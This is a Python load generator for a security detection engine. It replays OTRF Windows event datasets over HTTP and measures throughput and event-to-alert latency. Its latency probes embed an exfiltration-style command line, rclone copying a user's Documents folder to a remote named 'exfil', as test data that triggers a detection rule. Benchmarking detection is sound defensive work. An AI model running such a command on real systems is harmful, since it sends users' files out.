#!/usr/bin/env python3
"""Load generator and meter for bench/stream.sh (see there). Real events: the Windows events of
OTRF Security-Datasets zips (NXLog JSON, as Windows shippers post them), over HTTP NDJSON.

  throughput HTTP PID EVENTS      post EVENTS events as fast as accepted; wait until detection
                                  has evaluated them; print events/s and peak RSS
  latency HTTP PID RATE SECONDS   post background events at RATE/s, and every 100 ms one probe
                                  (a real Sysmon process creation, made to run rclone on its own
                                  host and user) that the built-in exfiltration rule alerts on;
                                  print p50/p99 of probe sent -> alert durable
"""
import glob, json, os, subprocess, sys, threading, time, urllib.request, zipfile

from serve_client import metric, post_ndjson as post, rss_kb

SHARED = os.environ.get("SHARED", "../shared/data")


def otrf_lines(limit=200_000):
    out = []
    for p in sorted(glob.glob(f"{SHARED}/otrf/datasets/atomic/windows/**/*.zip", recursive=True)):
        with zipfile.ZipFile(p) as z:
            for n in z.namelist():
                if not n.endswith(".json"):
                    continue
                for l in z.read(n).splitlines():
                    l = l.strip()
                    if l.startswith(b"{"):
                        out.append(l + b"\n")
        if len(out) >= limit:
            break
    return out


def probe_template():
    z = zipfile.ZipFile(f"{SHARED}/otrf/datasets/atomic/windows/credential_access/host/psh_lsass_memory_dump_comsvcs.zip")
    for l in z.read(z.namelist()[0]).splitlines():
        d = json.loads(l)
        if str(d.get("EventID")) == "1" and "Sysmon" in d.get("SourceName", ""):
            return d
    raise SystemExit("no Sysmon process creation in the probe sample")


def main():
    mode, http, pid = sys.argv[1], sys.argv[2], int(sys.argv[3])
    label = os.environ.get("LABEL", "yagura")
    if mode == "throughput":
        events = int(sys.argv[4])
        lines = otrf_lines()
        per_req = 5000
        reqs = max(1, events // per_req)
        total = reqs * per_req
        bodies = [b"".join(lines[(i * per_req + j) % len(lines)] for j in range(per_req)) for i in range(8)]
        counter = "yagura_detect_events_total" if os.environ.get("DETECT", "1") == "1" else "yagura_store_events_total"
        base = metric(http, counter)
        peak = [0]
        done = [False]
        def sample():
            while not done[0]:
                peak[0] = max(peak[0], rss_kb(pid)); time.sleep(0.25)
        threading.Thread(target=sample, daemon=True).start()
        t0 = time.time()
        def sender(k):
            for i in range(k, reqs, 2):
                post(http, bodies[i % len(bodies)])
        ts = [threading.Thread(target=sender, args=(k,)) for k in range(2)]
        for t in ts: t.start()
        for t in ts: t.join()
        while metric(http, counter) < base + total and time.time() - t0 < 1200:
            time.sleep(0.05)
        dt = time.time() - t0
        done[0] = True
        extra = ""
        if counter == "yagura_detect_events_total":
            extra = f", {metric(http, 'yagura_detect_matches_total'):,.0f} matches, {metric(http, 'yagura_alerts_created_total'):,.0f} alerts"
        print(f"{label}: {total:,} events in {dt:.2f} s = {total / dt:,.0f} events/s (HTTP NDJSON -> ECS -> WAL -> store{' -> every rule -> alerts' if counter.startswith('yagura_detect') else ''}){extra}, peak RSS {peak[0] / 1024:.0f} MB")
    elif mode == "latency":
        rate, secs = float(sys.argv[4]), float(sys.argv[5])
        lines = otrf_lines(50_000)
        tmpl = probe_template()
        per_req = 500
        body = b"".join(lines[j % len(lines)] for j in range(per_req))
        stop = time.time() + secs
        def background():
            nxt = time.time()
            while time.time() < stop:
                post(http, body)
                nxt += per_req / rate
                d = nxt - time.time()
                if d > 0: time.sleep(d)
        bg = threading.Thread(target=background); bg.start()
        sent = {}
        n = 0
        while time.time() < stop:
            n += 1
            d = dict(tmpl)
            host = f"probe-{n}"
            d["Hostname"] = host
            d["User"] = f"{host}\\analyst"
            d["Image"] = "C:\\Tools\\rclone.exe"
            d["OriginalFileName"] = "rclone.exe"
            d["CommandLine"] = "rclone.exe copy C:\\Users\\analyst\\Documents remote:exfil"
            t = time.time()
            post(http, (json.dumps(d) + "\n").encode())
            sent[host] = t
            time.sleep(max(0.0, 0.1 - (time.time() - t)))
        bg.join()
        time.sleep(3)
        with urllib.request.urlopen(f"http://{http}/api/v1/alerts?rule=Exfiltration&limit=0", timeout=30) as r:
            alerts = json.loads(r.read())
        lat = []
        for a in alerts:
            for h in a["entities"]["hosts"]:
                if h in sent:
                    lat.append(a["created_ms"] / 1000 - sent[h])
        lat.sort()
        if not lat:
            print(f"{label} latency: no probe alert found ({len(sent)} probes sent)"); return
        p = lambda q: lat[min(len(lat) - 1, int(q * len(lat)))] * 1000
        print(f"{label} event-to-alert latency at {rate:,.0f} events/s background: {len(lat)}/{len(sent)} probes alerted, "
              f"p50 {p(0.5):.0f} ms, p99 {p(0.99):.0f} ms, max {lat[-1] * 1000:.0f} ms")


main()
